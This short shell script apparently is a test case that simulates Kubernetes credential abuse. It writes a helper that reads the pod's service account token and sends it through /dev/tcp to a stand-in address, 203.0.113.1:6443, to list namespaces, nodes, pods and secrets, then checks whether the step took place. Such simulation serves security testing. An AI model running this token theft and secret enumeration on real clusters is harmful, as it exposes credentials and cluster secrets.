#!/bin/sh
. /opt/case/case.sh

cat >/tmp/k.sh <<'END'
token=$(</run/secrets/kubernetes.io/serviceaccount/token)
for what in namespaces nodes pods secrets; do
    exec 5<>/dev/tcp/203.0.113.1/6443
    printf 'GET /api/v1/%s HTTP/1.0\r\nAuthorization: Bearer %s\r\n\r\n' "$what" "$token" >&5
    cat <&5; exec 5>&-
done
END
bash /tmp/k.sh | grep -q PodList
took_place
